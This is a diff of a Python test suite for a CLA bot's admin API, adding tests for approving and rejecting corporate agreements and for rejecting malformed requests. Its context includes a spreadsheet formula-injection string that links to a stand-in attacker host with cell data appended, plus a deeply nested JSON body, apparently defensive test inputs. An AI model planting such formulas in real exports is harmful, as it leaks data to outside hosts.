@@ -17,11 +17,12 @@ from sqlalchemy import select
 
 from bot.services import admin
 from bot.storage import repositories as store
-from bot.storage.models import ApiToken, AuditEvent, Job, PrCheck, Repository, Signer
+from bot.storage.models import ApiToken, AuditEvent, Job, PrBlocker, PrCheck, Repository, Signer
 from bot.web import admin as admin_api
 from bot.web import openapi
 from bot.web.app import create_app
 from bot.web.keys import CIPHER, SESSIONS
+from tests.helpers import sign_company
 
 T0 = datetime(2024, 1, 2, 3, 4, 5, tzinfo=UTC)
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -38,6 +39,11 @@ OPERATIONS: list[tuple[str, str, Any, str]] = [
     ("GET", "/api/v1/signatures.csv", None, "export"),
     ("POST", "/api/v1/prs/github/acme/widgets/7/recheck", None, "admin"),
     ("POST", "/api/v1/repos/github/acme/widgets/recheck", None, "admin"),
+    ("GET", "/api/v1/companies", None, "read"),
+    ("GET", "/api/v1/companies?pending=true", None, "read"),
+    ("GET", "/api/v1/companies/1", None, "read"),
+    ("POST", "/api/v1/companies/1/approve", None, "admin"),
+    ("POST", "/api/v1/companies/1/reject", {"reason": "not the company"}, "admin"),
 ]
 
 
@@ -86,7 +92,15 @@ async def api(aiohttp_client: Any, db_url: str, make_settings: Any) -> Any:
         s.add(Repository(platform="github", full_name="acme/widgets", installation_id=3))
         await s.flush()
         await store.replace_contributors(
-            s, check, {"github:583231": False, store.email_identity_key(cipher, "x@y.org"): True}
+            s,
+            check,
+            {
+                "github:583231": False,
+                store.email_identity_key(cipher, "x@y.org"): True,
+            },
+        )
+        await sign_company(
+            s, cipher, fields={"name": "Maria Canary"}, domains=["y.org", "example.net"]
         )
     client.tokens = {}
     async with app[SESSIONS]() as s, s.begin():
@@ -378,3 +392,86 @@ async def test_openapi_document_is_public_and_describes_every_route(api: Any) ->
             for code in ("401", "403"):
                 assert code in op["responses"], (method, path, code)
             assert "WWW-Authenticate" in op["responses"]["401"]["headers"]
+
+
+async def test_administrators_decide_on_corporate_clas(api: Any) -> None:
+    read, adm = bearer(api.tokens["read"]), bearer(api.tokens["admin"])
+    listing = await (await api.get("/api/v1/companies?pending=1", headers=read)).json()
+    assert [(c["id"], c["name"], c["status"]) for c in listing["items"]] == [
+        (1, "Example Corp", "pending")
+    ]
+    assert "canary" not in json.dumps(listing).lower()
+    async with api.server.app[SESSIONS]() as s, s.begin():  # x@y.org's domain blocks PR 7
+        check = await s.scalar(select(PrCheck).where(PrCheck.number == 7))
+        assert check is not None
+        s.add(
+            PrBlocker(
+                pr_check_id=check.id, identity_key=store.domain_key(api.server.app[CIPHER], "y.org")
+            )
+        )
+    resp = await api.post("/api/v1/companies/1/approve", headers=adm)
+    decision = await resp.json()
+    assert resp.status == 200 and decision["changed"] is True and decision["rechecks"] == 1
+    assert decision["company"]["status"] == "approved" and decision["refused"] == []
+    assert [d["status"] for d in decision["company"]["domains"]] == ["approved", "approved"]
+    assert await (await api.get("/api/v1/companies?pending=true", headers=read)).json() == {
+        "items": []
+    }
+    resp = await api.post(
+        "/api/v1/companies/1/reject",
+        json={"reason": "another firm's domain", "domain": "EXAMPLE.net"},
+        headers=adm,
+    )
+    assert resp.status == 200
+    shown = await (await api.get("/api/v1/companies/1", headers=read)).json()
+    assert (shown["status"], shown["decided_by"]) == (
+        "approved",
+        f"token:{api.tokens['admin'][:12]}",
+    )
+    assert shown["domains"] == [
+        {"domain": "y.org", "status": "approved", "reason": None},
+        {"domain": "example.net", "status": "rejected", "reason": "another firm's domain"},
+    ]
+    async with api.server.app[SESSIONS]() as s:
+        events = (
+            await s.scalars(
+                select(AuditEvent)
+                .where(AuditEvent.action.in_(["company-approve", "company-reject"]))
+                .order_by(AuditEvent.id)
+            )
+        ).all()
+    assert [(e.action, e.actor, e.via) for e in events] == [
+        ("company-approve", f"token:{api.tokens['admin'][:12]}", "api"),
+        ("company-reject", f"token:{api.tokens['admin'][:12]}", "api"),
+    ]
+
+
+async def test_bad_company_requests_get_4xx_and_change_nothing(api: Any) -> None:
+    adm = bearer(api.tokens["admin"])
+    for method, path, body, status in (
+        ("GET", "/api/v1/companies/2", None, 404),
+        ("GET", "/api/v1/companies/x", None, 422),
+        ("GET", "/api/v1/companies/0", None, 422),
+        ("GET", "/api/v1/companies?pending=maybe", None, 422),
+        ("POST", "/api/v1/companies/99/approve", None, 404),
+        ("POST", "/api/v1/companies/1/reject", {}, 422),
+        ("POST", "/api/v1/companies/1/reject", {"reason": " "}, 422),
+        ("POST", "/api/v1/companies/1/reject", {"reason": 5}, 422),
+        ("POST", "/api/v1/companies/1/reject", {"reason": "x", "domain": 1}, 422),
+        ("POST", "/api/v1/companies/1/reject", {"reason": "x", "domain": "gone.org"}, 404),
+        ("POST", "/api/v1/companies/1/reject", [], 422),
+    ):
+        resp = await call(api, method, path, body, adm)
+        assert resp.status == status, (method, path, body)
+        assert "message" in await resp.json()
+    resp = await api.post("/api/v1/companies/1/reject", data=b"reason", headers=adm)
+    assert resp.status == 415
+    nested = b"[" * 100_000
+    resp = await api.post(
+        "/api/v1/companies/1/reject",
+        data=nested[:16000],
+        headers={**adm, "Content-Type": "application/json"},
+    )
+    assert resp.status == 400
+    shown = await (await api.get("/api/v1/companies/1", headers=adm)).json()
+    assert shown["status"] == "pending" and shown["decided_at"] is None
